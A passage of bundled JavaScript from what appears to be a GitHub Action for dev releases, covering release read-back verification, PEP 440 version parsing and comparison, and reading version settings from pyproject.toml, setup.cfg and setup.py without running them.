            (outcome.image || outcome.uploads.length)) {
            // Another build's files under a shared .devN are not this image's: the index is left out then.
            const taken = outcome.uploads.some(u => u.result === 'skipped' && /another build/.test(u.why ?? ''));
            const failed = await verifyPublished(onlyPushed(done, pushed), settings, taken ? undefined : outcome.distName, event, 
            // What this run signed: a run that uploaded without attestations (a reusable workflow's) has none to read.
            { image: !!outcome.imageAttestations?.length, dists: outcome.uploads.some(u => u.logIndex) }, workspace);
            if (failed.length)
                throw new Error(`The release read back differs from what was published: ${failed.join('; ')}`);
        }
        if (done.type === 'dev' && inputs.comment && inputs.githubToken && inputs.mode !== 'build')
            await tellThePullRequest(done, outcome, inputs, settings.index.url, event);
        return { ok: true, plan: planned };
    }
    catch (error) {
        const message = error instanceof Error ? error.message : String(error);
        runner/* setFailed */.C1(message);
        if (!failureShown)
            summary.unshift((0,plan_summary/* failedMarkdown */.hy)('dev-release failed', message));
        return { ok: false, error: message, plan: planned };
    }
    finally {
        if (summary.length)
            await runner/* appendSummary */.fe(summary.join('\n'));
    }
}
/** The release read back, one line per check; the lines of the checks that failed. */
async function verifyPublished(plan, settings, distName, { repository, repositoryId }, attested, workspace, held) {
    if (plan.type !== 'release' && plan.type !== 'dev') {
        runner/* info */.pq(`Nothing to verify: ${plan.reason}`);
        return [];
    }
    const { plannedAttestations, readBack, verifyCommands } = await Promise.all(/* import() */[__webpack_require__.e(534), __webpack_require__.e(941)]).then(__webpack_require__.bind(__webpack_require__, 6941));
    const { indexUrls } = await __webpack_require__.e(/* import() */ 534).then(__webpack_require__.bind(__webpack_require__, 16534));
    const started = Date.now();
    const checks = await runner/* group */.Os(`Read back ${plan.imageRefs[0] ?? plan.version}`, async () => {
        const signed = attested === 'planned' ? plannedAttestations(plan, settings) : attested;
        // The Dockerfiles as the commit has them: a verify of an older ref reads that ref's, not the work tree's.
        const git = new outside_git/* Git */.T(workspace, settings.index.timeouts.request);
        const fileAt = (path) => git.fileAt(plan.sha, path);
        const githubHosted = process.env.RUNNER_ENVIRONMENT === 'github-hosted';
        return printed(await readBack(plan, settings, distName, repository, signed, { repositoryId, held, fileAt, githubHosted }));
    });
    // Its cost, for the benchmark's share of a release (a debug line: the log stays the same).
    runner/* debug */.Yz(`Read back in ${Date.now() - started} ms`);
    const simple = indexUrls(settings.index.url).simple;
    const commands = verifyCommands(plan, repository, distName ? { simple, name: distName } : undefined, settings.attestations.image !== 'false');
    runner/* info */.pq(`To check it yourself:\n${commands.map(line => `  ${line}`).join('\n')}`);
    const failed = checks.filter(c => !c.ok).map(c => c.line);
    const notCompared = checks.filter(c => c.notCompared).length;
    if (!failed.length)
        runner/* info */.pq(`All ${checks.length - notCompared} checks hold${notCompared ? ` (${notCompared} not compared: nothing to compare)` : ''}.`);
    return failed;
}
/** The release built again from its commit and compared with what was published; the lines that differ. */
async function rebuildPublished(plan, settings, site, held) {
    const { rebuild } = await Promise.all(/* import() */[__webpack_require__.e(805), __webpack_require__.e(534), __webpack_require__.e(432), __webpack_require__.e(843)]).then(__webpack_require__.bind(__webpack_require__, 58843));
    const checks = printed(await rebuild(plan, settings, site, undefined, held));
    const failed = checks.filter(c => !c.ok).map(c => c.line);
    if (!failed.length)
        runner/* info */.pq(`The rebuild is the same bytes: all ${checks.length} comparisons hold.`);
    return failed;
}
/** Checks as the log shows them, one line each. */
function printed(checks) {
    for (const check of checks)
        runner/* info */.pq(`${check.notCompared ? '--  ' : check.ok ? 'ok  ' : 'FAIL'} ${check.line}`);
    return checks;
}
/** The plan's image names that this run pushed: a name whose registry had no login in this run (a fork's) was skipped. */
function onlyPushed(plan, pushed) {
    const names = new Set(pushed.map(ref => ref.slice(0, ref.lastIndexOf(':'))));
    return {
        ...plan,
        mirrors: plan.mirrors.filter(name => names.has(name)),
        moreImages: plan.moreImages
            .filter(i => names.has(i.image))
            .map(i => ({ ...i, mirrors: i.mirrors.filter(name => names.has(name)) }))
    };
}
/** Every tag pushed, of every image, under every name. */
function pushedTags(outcome) {
    return outcome.image ? [outcome.image, ...(outcome.image.more ?? [])].flatMap(i => i.refs) : [];
}
/** After a failure: the image pushed (its digest and tags) and the files the index took, each only where it happened. */
function setPublishedOutputs(outcome) {
    runner/* setOutput */.uH('docker-tags', pushedTags(outcome).join('\n'));
    runner/* setOutput */.uH('digest', outcome.digest);
    runner/* setOutput */.uH('dists', outcome.uploads
        .filter(u => u.result === 'uploaded')
        .map(u => u.file)
        .join('\n'));
}
/** The comment on the branch's pull request: never a reason for the release to fail. */
async function tellThePullRequest(plan, outcome, inputs, indexUrl, event) {
    const { commentBody, commentOnPullRequest } = await Promise.all(/* import() */[__webpack_require__.e(392), __webpack_require__.e(812)]).then(__webpack_require__.bind(__webpack_require__, 7812));
    const { github } = await Promise.all(/* import() */[__webpack_require__.e(392), __webpack_require__.e(716)]).then(__webpack_require__.bind(__webpack_require__, 85716));
    const images = outcome.image ? [outcome.image, ...(outcome.image.more ?? [])] : [];
    // The index the executor uploaded to, as it found it.
    const simple = outcome.indexSimple;
    const uploaded = outcome.uploads.some(u => u.result === 'uploaded' || /re-run/.test(u.why ?? ''));
    const body = commentBody({
        version: plan.version,
        sha: plan.sha,
        images,
        verify: (0,plan_summary/* verifyCommand */.p0)(plan, indexUrl),
        index: uploaded && outcome.distName && simple
            ? { name: outcome.distName, simpleUrl: simple, isPypi: simple === 'https://pypi.org/simple/' }
            : undefined
    });
    const branch = event.ref.replace(/^refs\/heads\//, '');
    try {
        const done = await commentOnPullRequest(branch, body, {
            repository: event.repository,
            api: github(inputs.githubToken, inputs.timeouts.request)
        });
        if (done === 'created' || done === 'updated')
            runner/* info */.pq(`The pull request's comment on how to try this branch is ${done}.`);
    }
    catch (error) {
        runner/* warning */.$e(`Could not comment on the pull request: ${error.message}`);
    }
}
/** The plan in the log and the outputs; returns what goes into the job summary. */
function report(plan, dryRun) {
    for (const warning of plan.warnings)
        runner/* warning */.$e(warning);
    for (const notice of plan.notices)
        runner/* notice */.lm(notice);
    runner/* startGroup */.Oh(dryRun ? 'Release plan (dry run: nothing is published)' : 'Release plan');
    runner/* info */.pq((0,plan_summary/* planText */.Pt)(plan));
    runner/* endGroup */.N4();
    runner/* setOutput */.uH('release-type', plan.type);
    runner/* setOutput */.uH('reason', plan.reason);
    runner/* setOutput */.uH('version', plan.version);
    runner/* setOutput */.uH('docker-tags', (0,plan_plan/* allRefs */.w)(plan).join('\n'));
    runner/* setOutput */.uH('digest', '');
    runner/* setOutput */.uH('dists', '');
    runner/* setOutput */.uH('platform', '');
    runner/* setOutput */.uH('dists-dir', '');
    // A release's own summary comes after it; a plan that stops here shows itself (below the reason it stops).
    if (!dryRun && plan.type !== 'skip' && !plan.errors.length)
        return [];
    if (dryRun && plan.type !== 'skip')
        runner/* info */.pq('Dry run: nothing was built, pushed or uploaded.');
    const heading = plan.type === 'skip' ? 'dev-release: nothing to release' : `dev-release plan${dryRun ? ' (dry run)' : ''}`;
    return [(0,plan_summary/* planMarkdown */.Xg)(plan, heading)];
}


/***/ }),

/***/ 24395:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   m: () => (/* binding */ globMatches),
/* harmony export */   y: () => (/* binding */ escapeGlob)
/* harmony export */ });
// git's wildmatch patterns (git describe --match/--exclude), for tag names.
/** A literal text as a pattern that matches only itself. */
function escapeGlob(text) {
    return text.replace(/[\\*?[\]]/g, c => `\\${c}`);
}
/** Whether a tag matches a pattern as git describe matches it (`*` crosses `/` there). */
function globMatches(pattern, text) {
    let source = '';
    for (let i = 0; i < pattern.length; i++) {
        const c = pattern[i];
        if (c === '\\' && i + 1 < pattern.length)
            source += escapeRegex(pattern[++i]);
        else if (c === '*')
            source += '[\\s\\S]*';
        else if (c === '?')
            source += '[\\s\\S]';
        else if (c === '[') {
            const end = pattern.indexOf(']', i + 2);
            if (end < 0) {
                source += '\\[';
                continue;
            }
            let body = pattern.slice(i + 1, end);
            const negate = body.startsWith('!') || body.startsWith('^');
            if (negate)
                body = body.slice(1);
            source += `[${negate ? '^' : ''}${body.replace(/[\\\]^]/g, '\\$&')}]`;
            i = end;
        }
        else
            source += escapeRegex(c);
    }
    return new RegExp(`^${source}$`, 'u').test(text);
}
function escapeRegex(text) {
    return text.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&');
}


/***/ }),

/***/ 42422:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Qj: () => (/* binding */ normalizeVersion),
/* harmony export */   Ty: () => (/* binding */ isPreRelease),
/* harmony export */   Yd: () => (/* binding */ publicVersion),
/* harmony export */   Zy: () => (/* binding */ compareVersions),
/* harmony export */   dR: () => (/* binding */ isFinal),
/* harmony export */   ot: () => (/* binding */ parseVersion),
/* harmony export */   qh: () => (/* binding */ formatVersion),
/* harmony export */   t: () => (/* binding */ highestVersion)
/* harmony export */ });
// PEP 440 versions with numbers of any size: the grammar is PEP 440's own (its
// appendix, which Python's packaging uses), written here; the segments are read as
// BigInt, since JavaScript numbers lose digits above 2^53.
/** PEP 440, Appendix B: every spelling a version may have, before it is normalized. */
const VERSION_PATTERN = [
    'v?',
    '(?:',
    '(?:(?<epoch>[0-9]+)!)?', // 1!
    '(?<release>[0-9]+(?:\\.[0-9]+)*)', // 1.2.3
    '(?<pre>[-_.]?(?<pre_l>alpha|beta|preview|pre|rc|a|b|c)[-_.]?(?<pre_n>[0-9]+)?)?', // rc1, -alpha.2
    '(?<post>(?:-(?<post_n1>[0-9]+))|(?:[-_.]?(?<post_l>post|rev|r)[-_.]?(?<post_n2>[0-9]+)?))?', // .post1, -1
    '(?<dev>[-_.]?(?<dev_l>dev)[-_.]?(?<dev_n>[0-9]+)?)?', // .dev3
    ')',
    '(?:\\+(?<local>[a-z0-9]+(?:[-_.][a-z0-9]+)*))?' // +local.1
].join('');
const PATTERN = new RegExp(`^\\s*${VERSION_PATTERN}\\s*$`, 'i');
const PRE_LETTER = {
    a: 'a',
    alpha: 'a',
    b: 'b',
    beta: 'b',
    c: 'rc',
    rc: 'rc',
    pre: 'rc',
    preview: 'rc'
};
/** Parse a version as packaging's Version does, or undefined when it is none. */
function parseVersion(text) {
    const g = PATTERN.exec(text)?.groups;
    if (!g)
        return undefined;
    const version = {
        epoch: BigInt(g.epoch ?? 0),
        release: g.release.split('.').map(n => BigInt(n))
    };
    if (g.pre_l)
        version.pre = { letter: PRE_LETTER[g.pre_l.toLowerCase()], number: BigInt(g.pre_n ?? 0) };
    if (g.post_n1 !== undefined || g.post_l)
        version.post = BigInt(g.post_n1 ?? g.post_n2 ?? 0);
    if (g.dev_l)
        version.dev = BigInt(g.dev_n ?? 0);
    if (g.local)
        version.local = g.local.split(/[-_.]/).map(part => (/^\d+$/.test(part) ? BigInt(part) : part.toLowerCase()));
    return version;
}
function formatVersion(v) {
    let text = v.epoch ? `${v.epoch}!` : '';
    text += v.release.join('.');
    if (v.pre)
        text += `${v.pre.letter}${v.pre.number}`;
    if (v.post !== undefined)
        text += `.post${v.post}`;
    if (v.dev !== undefined)
        text += `.dev${v.dev}`;
    if (v.local)
        text += `+${v.local.join('.')}`;
    return text;
}
/** The normalized form (`v1.02-RC.1` → `1.2rc1`), or undefined when the text is no version. */
function normalizeVersion(text) {
    const parsed = parseVersion(text);
    return parsed && formatVersion(parsed);
}
/** The version without its local part (`1.2.3+g1234` → `1.2.3`). */
function publicVersion(text) {
    const parsed = parseVersion(text);
    return parsed && formatVersion({ ...parsed, local: undefined });
}
/** A final release: no pre, post or dev part. */
function isFinal(text) {
    const v = parseVersion(text);
    return v !== undefined && !v.pre && v.post === undefined && v.dev === undefined;
}
/** What pip installs only with --pre: a pre-release or a development release. */
function isPreRelease(text) {
    const v = parseVersion(text);
    return v !== undefined && (v.pre !== undefined || v.dev !== undefined);
}
const LETTER_ORDER = { a: 0, b: 1, rc: 2 };
function cmp(a, b) {
    return a < b ? -1 : a > b ? 1 : 0;
}
/** packaging's ordering: -1, 0 or 1. Versions that do not parse sort below all others. */
function compareVersions(a, b) {
    const x = parseVersion(a);
    const y = parseVersion(b);
    if (!x || !y)
        return x ? 1 : y ? -1 : 0;
    return cmpKey(x, y);
}
function cmpKey(x, y) {
    const byEpoch = cmp(x.epoch, y.epoch);
    if (byEpoch)
        return byEpoch;
    const rx = trimZeros(x.release);
    const ry = trimZeros(y.release);
    for (let i = 0; i < Math.max(rx.length, ry.length); i++) {
        if (i >= rx.length)
            return -1;
        if (i >= ry.length)
            return 1;
        const c = cmp(rx[i], ry[i]);
        if (c)
            return c;
    }
    // 1.0.dev0 < 1.0a0 < 1.0 < 1.0.post0
    const preRank = (v) => (v.pre ? 1 : v.post === undefined && v.dev !== undefined ? 0 : 2);
    const c1 = cmp(preRank(x), preRank(y));
    if (c1)
        return c1;
    if (x.pre && y.pre) {
        const c2 = cmp(LETTER_ORDER[x.pre.letter], LETTER_ORDER[y.pre.letter]) || cmp(x.pre.number, y.pre.number);
        if (c2)
            return c2;
    }
    const c3 = cmp(x.post === undefined ? -1n : x.post, y.post === undefined ? -1n : y.post);
    if (c3)
        return c3;
    if ((x.dev === undefined) !== (y.dev === undefined))
        return x.dev === undefined ? 1 : -1;
    if (x.dev !== undefined && y.dev !== undefined) {
        const c4 = cmp(x.dev, y.dev);
        if (c4)
            return c4;
    }
    return compareLocal(x.local, y.local);
}
function trimZeros(release) {
    let end = release.length;
    while (end > 1 && release[end - 1] === 0n)
        end--;
    return release.slice(0, end);
}
function compareLocal(a, b) {
    if (!a || !b)
        return a ? 1 : b ? -1 : 0;
    for (let i = 0; i < Math.max(a.length, b.length); i++) {
        if (i >= a.length)
            return -1;
        if (i >= b.length)
            return 1;
        const [p, q] = [a[i], b[i]];
        // Numeric segments sort above alphanumeric ones.
        if (typeof p !== typeof q)
            return typeof p === 'bigint' ? 1 : -1;
        const c = typeof p === 'bigint' ? cmp(p, q) : p < q ? -1 : p > q ? 1 : 0;
        if (c)
            return c;
    }
    return 0;
}
/** The highest of some versions, or undefined for none. */
function highestVersion(versions) {
    return versions.reduce((best, v) => (best === undefined || compareVersions(v, best) > 0 ? v : best), undefined);
}


/***/ }),

/***/ 95377:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Wx: () => (/* binding */ readProjectInfo),
/* harmony export */   bC: () => (/* binding */ versionAdvice),
/* harmony export */   tp: () => (/* binding */ table),
/* harmony export */   xV: () => (/* binding */ requirementName)
/* harmony export */ });
/* harmony import */ var smol_toml__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(3292);
/* harmony import */ var _setup_py_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(71354);
// What a Python project's files say about its name, its build backend and
// where its version comes from. Pure: the texts are read elsewhere.


/** Parse pyproject.toml; throws an Error naming the line when the TOML is broken. */
function readProjectInfo(files) {
    const toml = files.pyproject === undefined ? {} : (0,smol_toml__WEBPACK_IMPORTED_MODULE_0__/* .parse */ .qg)(files.pyproject);
    const project = table(toml.project);
    const buildSystem = table(toml['build-system']);
    const requires = Array.isArray(buildSystem.requires) ? buildSystem.requires.map(String) : [];
    const backendName = typeof buildSystem['build-backend'] === 'string' ? buildSystem['build-backend'] : '';
    const info = {
        name: typeof project.name === 'string' ? project.name : undefined,
        staticVersion: typeof project.version === 'string' ? project.version : undefined,
        description: typeof project.description === 'string' ? project.description : undefined,
        license: typeof project.license === 'string'
            ? project.license
            : typeof table(project.license).text === 'string'
                ? String(table(project.license).text)
                : undefined,
        backend: backendOf(backendName, files.pyproject === undefined && files.setupPy !== undefined),
        requires,
        toml
    };
    info.fixedVersion = fixedVersion(info, backendName, files);
    return info;
}
/**
 * The version a build takes from the files: `[project] version` without "version" in `dynamic`, plain
 * poetry-core's `[tool.poetry] version`, or setup.cfg's or setup.py's literal `version` where nothing brings
 * setuptools_scm in (where it does, it sets the version over them).
 */
function fixedVersion(info, backendName, files) {
    const project = table(info.toml.project);
    const dynamic = Array.isArray(project.dynamic) ? project.dynamic.map(String) : [];
    if (info.staticVersion !== undefined && !dynamic.includes('version'))
        return { where: 'pyproject.toml [project] version', version: info.staticVersion };
    const poetryVersion = table(table(info.toml.tool).poetry).version;
    if (/^poetry\.(core\.)?masonry\b/.test(backendName) &&
        typeof poetryVersion === 'string' &&
        info.staticVersion === undefined)
        return { where: 'pyproject.toml [tool.poetry] version', version: poetryVersion };
    const tool = table(info.toml.tool);
    const scm = info.requires.some(r => ['setuptools-scm', 'vcs-versioning'].includes(requirementName(r))) ||
        tool.setuptools_scm !== undefined ||
        tool['vcs-versioning'] !== undefined ||
        (files.setupPy !== undefined && !['absent', 'off'].includes((0,_setup_py_js__WEBPACK_IMPORTED_MODULE_1__/* .readUseScmVersion */ .JN)(files.setupPy).kind)) ||
        (files.setupCfg !== undefined &&
            /^\s*(setup_requires|use_scm_version)\b[^\n]*(\n[ \t]+[^\n]*)*setuptools[-_]scm/im.test(files.setupCfg));
    if (info.backend !== 'setuptools' || scm)
        return undefined;
    const cfg = files.setupCfg && setupCfgVersion(files.setupCfg);
    if (cfg)
        return { where: 'setup.cfg [metadata] version', version: cfg };
    const py = files.setupPy && (0,_setup_py_js__WEBPACK_IMPORTED_MODULE_1__/* .setupPyVersion */ .NV)(files.setupPy);
    if (py)
        return { where: 'setup.py version=', version: py };
    return undefined;
}
/** setup.cfg's `[metadata] version = 1.2.3` (not `attr:` or `file:`, which read other files). */
function setupCfgVersion(text) {
    let section = '';
    for (const line of text.split(/\r?\n/)) {
        const header = /^\s*\[([^\]]+)\]/.exec(line);
        if (header)
            section = header[1].trim();
        const m = section === 'metadata' && /^version\s*[=:]\s*(.+?)\s*$/.exec(line);
        if (m && !/^(attr|file):/.test(m[1]))
            return m[1];
    }
    return undefined;
}
function backendOf(name, setupPyOnly) {
    if (name === '' || setupPyOnly)
        return 'setuptools'; // PEP 517's fallback
    if (name.startsWith('setuptools'))
        return 'setuptools';
    if (name.startsWith('hatchling'))
        return 'hatchling';
    if (name.startsWith('flit_core') || name.startsWith('flit_scm') || name.startsWith('flit.'))
        return 'flit';
    if (name.startsWith('poetry'))
        return 'poetry';
    if (name.startsWith('pdm'))
        return 'pdm';
    return 'other';
}
function table(value) {
    return value !== null && typeof value === 'object' && !Array.isArray(value) ? value : {};
}
/** A requirement's distribution name, normalized: `setuptools-scm[toml]>=8` → `setuptools-scm`. */
function requirementName(requirement) {
    return (/^\s*([A-Za-z0-9._-]+)/.exec(requirement)?.[1] ?? '').toLowerCase().replace(/[-_.]+/g, '-');
}
/** What to change so that the build takes its version from git, for this backend. */
function versionAdvice(info) {
    const requires = info.requires.map(requirementName);
    const fixed = info.fixedVersion;
    if (fixed && !fixed.where.includes('[project]')) {
        return fixed.where.includes('poetry')
            ? `${fixed.where} = "${fixed.version}" is what the build writes: python -m build never runs Poetry plugins, so make build-backend "poetry_dynamic_versioning.backend" (with poetry-dynamic-versioning in build-system.requires), or switch to setuptools_scm.`
            : `${fixed.where} fixes ${fixed.version}: remove it and let setuptools_scm set the version (setuptools-scm in build-system.requires, use_scm_version=True in setup.py or a [tool.setuptools_scm] table).`;
    }
    if (info.staticVersion !== undefined) {
        return `pyproject.toml fixes [project] version = "${info.staticVersion}": remove it, add "version" to [project] dynamic, and let ${info.backend === 'hatchling' ? 'hatch-vcs ([tool.hatch.version] source = "vcs")' : 'setuptools_scm'} compute it.`;
    }
    switch (info.backend) {
        case 'flit':
            return requires.includes('flit-scm')
                ? 'flit_scm is in build-system.requires: make build-backend "flit_scm:buildapi", so that it sets the version.'
                : 'flit takes the version from the module\'s __version__: build with flit_scm instead (requires = ["flit_scm"], build-backend = "flit_scm:buildapi").';
        case 'poetry':
            return 'python -m build never runs Poetry plugins: add poetry-dynamic-versioning to build-system.requires and make build-backend "poetry_dynamic_versioning.backend", or switch to setuptools_scm.';
        case 'hatchling':
            return requires.includes('hatch-vcs')
                ? 'hatch-vcs is in build-system.requires: set [tool.hatch.version] source = "vcs" and list "version" in [project] dynamic.'
                : 'add hatch-vcs to build-system.requires and set [tool.hatch.version] source = "vcs", with "version" in [project] dynamic.';
        case 'pdm':
            return 'set [tool.pdm.version] source = "scm", with "version" in [project] dynamic.';
        case 'setuptools':
            return requires.includes('setuptools-scm')
                ? 'setuptools_scm is in build-system.requires: list "version" in [project] dynamic (or pass use_scm_version=True in setup.py), and remove any version = … from setup.py or setup.cfg.'
                : 'add setuptools_scm to build-system.requires, list "version" in [project] dynamic, and remove any fixed version from setup.py or setup.cfg.';
        default:
            return "make the build backend take its version from git (setuptools_scm, hatch-vcs, flit_scm or pdm's scm source).";
    }
}


/***/ }),

/***/ 71354:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   JN: () => (/* binding */ readUseScmVersion),
/* harmony export */   NV: () => (/* binding */ setupPyVersion),
/* harmony export */   _m: () => (/* binding */ isCode)
/* harmony export */ });
// What a setup.py says about versions, read as text, never run: the literal passed as `use_scm_version=` and a
// literal `version=`. Python literals (strings, numbers, True/False/None, lists, tuples, dicts, `dict(k=v)`) are
// read as values; anything else (a lambda, a name, a call) is kept as its source text, so that the caller can
// refuse exactly the keys whose value is code. Pure.
function isCode(value) {
    return typeof value === 'object' && value !== null && !Array.isArray(value) && typeof value.code === 'string';
}
/** The `use_scm_version=` argument of setup.py, read from its text. */
function readUseScmVersion(text) {
    const value = keywordArgument(text, 'use_scm_version');
    if (value === undefined)
        return { kind: 'absent' };
    if (value === true)
        return { kind: 'on' };
    if (value === false || value === null)
        return { kind: 'off' };
    if (isCode(value))
        return { kind: 'code', code: value.code };
    if (typeof value === 'object' && !Array.isArray(value))
        return { kind: 'settings', settings: value };
    return { kind: 'code', code: JSON.stringify(value) };
}
/** A literal `version='1.2.3'` passed to setup(), when setup.py fixes its version in the file. */
function setupPyVersion(text) {
    const value = keywordArgument(text, 'version');
    return typeof value === 'string' ? value : undefined;
}
/**
 * The setup.py last read, without its comments, and the arguments found in it: a run asks for use_scm_version from
 * two places (the version's settings, the version the files fix), and parses the file once.
 */
let last;
/** The value of the first keyword argument `name=` in the text (not `==`, not part of a longer name). */
function keywordArgument(text, name) {
    if (last?.text !== text)
        last = { text, source: stripComments(text), found: new Map() };
    if (!last.found.has(name))
        last.found.set(name, firstArgument(last.source, name));
    return last.found.get(name);
}
function firstArgument(source, name) {
    const pattern = new RegExp(`(?<![\\w.])${name}\\s*=(?!=)`, 'g');
    for (let m = pattern.exec(source); m; m = pattern.exec(source)) {
        // Only as an argument: after `(` or `,` (a plain assignment `version = "1.0"` is not what setup() gets).
        const before = source.slice(0, m.index).trimEnd();
        if (!before.endsWith('(') && !before.endsWith(','))
            continue;
        const reader = new Reader(source, m.index + m[0].length);
        return reader.expression();
    }
    return undefined;
}
/** Comments removed, string literals kept as they are. */
function stripComments(text) {
    let out = '';
    for (let i = 0; i < text.length;) {
        const c = text[i];
        if (c === '#') {
            while (i < text.length && text[i] !== '\n')
                i++;
        }
        else if (c === '"' || c === "'") {
            const end = stringEnd(text, i);
            out += text.slice(i, end);
            i = end;
        }
        else {
            out += c;
            i++;
        }
    }
    return out;
}
/** Where the string literal starting at `i` (its opening quote) ends. */
function stringEnd(text, i) {
    const quote = text.startsWith(text[i].repeat(3), i) ? text[i].repeat(3) : text[i];
    let j = i + quote.length;
    while (j < text.length && !text.startsWith(quote, j))
        j += text[j] === '\\' ? 2 : 1;
    return Math.min(j + quote.length, text.length);
}
const CLOSERS = { '(': ')', '[': ']', '{': '}' };
class Reader {
    text;
    pos;
    constructor(text, pos) {
        this.text = text;
        this.pos = pos;
    }
    /** One expression up to the next `,` or closing bracket at this level. */
    expression() {
        const start = this.skipSpace();
        const literal = this.literal();
        const end = this.pos;
        this.skipSpace();
        if (literal !== undefined && this.atEnd())
            return literal;
        // Not (only) a literal: take the whole expression as code.
        this.pos = literal === undefined ? start : end;
        this.skipExpression();
        return { code: this.text.slice(start, this.pos).trim() };
    }
    literal() {
        const rest = this.text.slice(this.pos);
        const str = /^([rRuU]?)(['"])/.exec(rest);
        if (str)
            return this.strings();
        const num = /^-?\d+(\.\d+)?(?![\w.])/.exec(rest);
        if (num) {
            this.pos += num[0].length;
            return Number(num[0]);
        }
        const word = /^(True|False|None)(?!\w)/.exec(rest);
        if (word) {
            this.pos += word[0].length;
            return word[1] === 'True' ? true : word[1] === 'False' ? false : null;
        }
        if (rest.startsWith('{'))
            return this.dict();
        if (rest.startsWith('[') || rest.startsWith('('))
            return this.sequence();
        if (/^dict\s*\(/.test(rest))
            return this.dictCall();
        return undefined;
    }
    /** Adjacent string literals, joined as Python joins them. */
    strings() {
        let value = '';
        for (;;) {
            const m = /^([rRuU]?)(['"])/.exec(this.text.slice(this.pos));
            if (!m)
                return value;
            const raw = m[1].toLowerCase() === 'r';
            const open = this.pos + m[1].length;
            const end = stringEnd(this.text, open);
            const quote = this.text.startsWith(this.text[open].repeat(3), open) ? 3 : 1;
            const body = this.text.slice(open + quote, end - quote);
            value += raw ? body : unescape(body);
            this.pos = end;
            const save = this.pos;
            this.skipSpace();
            if (!/^[rRuU]?['"]/.test(this.text.slice(this.pos))) {
                this.pos = save;
                return value;
            }
        }
    }
    dict() {
        this.pos++; // {
        const out = {};
        for (;;) {
            this.skipSpace();
            if (this.text[this.pos] === '}') {
                this.pos++;
                return out;
            }
            const key = this.literal();
            this.skipSpace();
            if (typeof key !== 'string' || this.text[this.pos] !== ':')
                return undefined;
            this.pos++;
            out[key] = this.expression();
            if (!this.separator('}'))
                return undefined;
        }
    }
    dictCall() {
        this.pos = this.text.indexOf('(', this.pos) + 1;
        const out = {};
        for (;;) {
            this.skipSpace();
            if (this.text[this.pos] === ')') {
                this.pos++;
                return out;
            }
            const key = /^([A-Za-z_]\w*)\s*=(?!=)/.exec(this.text.slice(this.pos));
            if (!key)
                return undefined;
            this.pos += key[0].length;
            out[key[1]] = this.expression();
            if (!this.separator(')'))
                return undefined;
        }
    }
    sequence() {
        const close = CLOSERS[this.text[this.pos]];
        this.pos++;
        const out = [];
        for (;;) {
            this.skipSpace();
            if (this.text[this.pos] === close) {
                this.pos++;
                return out;
            }
            out.push(this.expression());
            if (!this.separator(close))
                return undefined;
        }
    }
    /** After an item: `,` (then maybe the closer) or the closer; false where neither stands. */
    separator(close) {
        this.skipSpace();
        if (this.text[this.pos] === ',') {
            this.pos++;
            return true;
        }
        return this.text[this.pos] === close;
    }
    /** Past everything up to a `,` or a closing bracket at this level. */
    skipExpression() {
        let depth = 0;
        while (this.pos < this.text.length) {
            const c = this.text[this.pos];
            if (c === '"' || c === "'") {
                this.pos = stringEnd(this.text, this.pos);
                continue;
            }
            if (c in CLOSERS)
                depth++;
            else if (c === ')' || c === ']' || c === '}') {
                if (depth === 0)
                    return;
                depth--;
            }
            else if (c === ',' && depth === 0)
                return;
            this.pos++;
        }
    }
    atEnd() {
        const c = this.text[this.pos];
        return c === undefined || c === ',' || c === ')' || c === ']' || c === '}';
    }
    skipSpace() {
        while (this.pos < this.text.length && /\s|\\/.test(this.text[this.pos]))
            this.pos++;
        return this.pos;
    }
}
const ESCAPES = { n: '\n', t: '\t', r: '\r', '0': '\0', '\\': '\\', "'": "'", '"': '"' };
function unescape(body) {
    return body.replace(/\\(.)/gs, (all, c) => ESCAPES[c] ?? (c === '\n' ? '' : all));
}


/***/ }),

/***/ 96999:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   $F: () => (/* binding */ DEFAULT_TAG_REGEX),
/* harmony export */   JS: () => (/* binding */ compileTagRegex),
/* harmony export */   _f: () => (/* binding */ matchTag)
/* harmony export */ });
// setuptools_scm's tag_regex is a Python regular expression. It is translated
// into a JavaScript one that matches exactly the same tags, or refused: a
// construct whose meaning would differ is an error, never an approximation.
/** setuptools_scm's DEFAULT_TAG_REGEX. */
const DEFAULT_TAG_REGEX = String.raw `^(?:[\w-]+-)?(?P<version>[vV]?\d+(?:\.\d+){0,2}[^\+]*)(?:\+.*)?$`;
// Python's \w and \d are Unicode-aware on str patterns; JavaScript's are ASCII even with the u flag.
const WORD = String.raw `\p{L}\p{N}_`;
const DIGIT = String.raw `\p{Nd}`;
const SYNTAX = new Set([...'^$\\.*+?()[]{}|/-']);
/** Translate a Python pattern, or throw an Error saying which construct is not supported. */
function compileTagRegex(source) {
    let flags = 'u';
    let i = 0;
    let out = '';
    let inClass = false;
    const fail = (what) => {
        throw new Error(`${what} (at position ${i} of ${JSON.stringify(source)}) has no exact JavaScript equivalent`);
    };
    // A leading (?i) is the one inline flag Python and JavaScript share the meaning of.
    const inline = /^\(\?([aiLmsux]+)\)/.exec(source);
    if (inline) {
        if (inline[1] !== 'i')
            fail(`the inline flag (?${inline[1]})`);
        flags += 'i';
        i = inline[0].length;
    }
    while (i < source.length) {
        const c = source[i];
        if (c === '\\') {
            const next = source[i + 1];
            if (next === undefined)
                fail('a trailing backslash');
            i += 2;
            if (next === 'd')
                out += inClass ? DIGIT : `[${DIGIT}]`;
            else if (next === 'D')
                out += inClass ? fail('\\D inside a character class') : `[^${DIGIT}]`;
            else if (next === 'w')
                out += inClass ? WORD : `[${WORD}]`;
            else if (next === 'W')
                out += inClass ? fail('\\W inside a character class') : `[^${WORD}]`;
            else if (next === 's' ||
                next === 'S' ||
                next === 'n' ||
                next === 't' ||
                next === 'r' ||
                next === 'f' ||
                next === 'v')
                out += `\\${next}`;
            else if (next === 'A')
